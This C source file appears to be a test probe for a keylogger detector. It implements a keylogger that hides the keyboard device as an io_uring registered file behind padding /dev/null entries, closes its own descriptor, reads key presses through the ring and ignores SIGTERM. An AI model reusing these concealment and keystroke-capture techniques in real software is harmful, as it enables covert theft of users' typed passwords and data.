/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Guest probe: a keylogger that keeps a keyboard only as an io_uring
 * registered file, after PAD registered /dev/null files (so that the ring's
 * fdinfo lists the node past any fixed-size read), with the node's own fd
 * closed. It reads through the ring (IORING_OP_READ on the fixed file) and
 * prints one line per key press, read error or end, prefixed with TAG. It
 * ignores SIGTERM: only SIGKILL ends it. Raw syscalls, no liburing.
 * usage: xdt-uring-keylog TAG NODE PAD */
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <linux/io_uring.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *tag;

static void say(const char *fmt, const char *a, long b) {
        printf("%s pid=%d uid=%d ", tag, (int) getpid(), (int) getuid());
        printf(fmt, a, b);
        printf("\n");
        fflush(stdout);
}

int main(int argc, char **argv) {
        struct io_uring_params p = { 0 };
        struct input_event ev[64];
        unsigned pad;
        int ring, node, null;

        if (argc != 4)
                return 2;
        tag = argv[1];
        pad = (unsigned) atoi(argv[3]);
        (void) signal(SIGTERM, SIG_IGN);
        ring = (int) syscall(SYS_io_uring_setup, 4, &p);
        node = open(argv[2], O_RDONLY | O_CLOEXEC);
        null = open("/dev/null", O_RDONLY | O_CLOEXEC);
        if (ring < 0 || node < 0 || null < 0) {
                say("setup %s: %ld", argv[2], (long) -errno);
                return 1;
        }
        int *files = calloc(pad + 1, sizeof *files);
        if (!files)
                return 1;
        for (unsigned i = 0; i < pad; i++)
                files[i] = null;
        files[pad] = node;
        if (syscall(SYS_io_uring_register, ring, IORING_REGISTER_FILES, files, pad + 1) < 0) {
                say("register %s: %ld", argv[2], (long) -errno);
                return 1;
        }
        (void) close(node);
        (void) close(null);
        free(files);

        size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
        size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
        if (p.features & IORING_FEAT_SINGLE_MMAP)
                sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
        char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                        IORING_OFF_SQ_RING);
        char *cq = (p.features & IORING_FEAT_SINGLE_MMAP)
                ? sq
                : mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                       IORING_OFF_CQ_RING);
        struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
                                         MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
        if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
                say("mmap %s: %ld", "ring", (long) -errno);
                return 1;
        }
        unsigned *sq_tail = (unsigned *) (sq + p.sq_off.tail);
        unsigned *sq_mask = (unsigned *) (sq + p.sq_off.ring_mask);
        unsigned *sq_array = (unsigned *) (sq + p.sq_off.array);
        unsigned *cq_head = (unsigned *) (cq + p.cq_off.head);
        unsigned *cq_tail = (unsigned *) (cq + p.cq_off.tail);
        unsigned *cq_mask = (unsigned *) (cq + p.cq_off.ring_mask);
        struct io_uring_cqe *cqes = (struct io_uring_cqe *) (cq + p.cq_off.cqes);
        say("registered %s after %ld padding files, its fd closed", argv[2], (long) pad);

        for (;;) {
                unsigned t = *sq_tail, idx = t & *sq_mask;
                struct io_uring_sqe *e = &sqes[idx];
                memset(e, 0, sizeof *e);
                e->opcode = IORING_OP_READ;
                e->flags = IOSQE_FIXED_FILE;
                e->fd = (int) pad; /* the index in the registered table */
                e->addr = (unsigned long) ev;
                e->len = sizeof ev;
                e->off = (unsigned long long) -1; /* the file's position: a stream */
                sq_array[idx] = idx;
                __atomic_store_n(sq_tail, t + 1, __ATOMIC_RELEASE);
                if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0 &&
                    errno != EINTR) {
                        say("enter %s: %ld", argv[2], (long) -errno);
                        break;
                }
                unsigned h = *cq_head;
                if (h == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
                        continue;
                int res = cqes[h & *cq_mask].res;
                __atomic_store_n(cq_head, h + 1, __ATOMIC_RELEASE);
                if (res <= 0) {
                        say("read %s: %ld", argv[2], (long) res);
                        break;
                }
                for (size_t i = 0; i < (size_t) res / sizeof ev[0]; i++)
                        if (ev[i].type == EV_KEY && ev[i].value == 1)
                                say("%skey %ld", "", (long) ev[i].code);
        }
        say("done%s %ld, still running until killed", "", 0L);
        for (;;)
                pause();
}
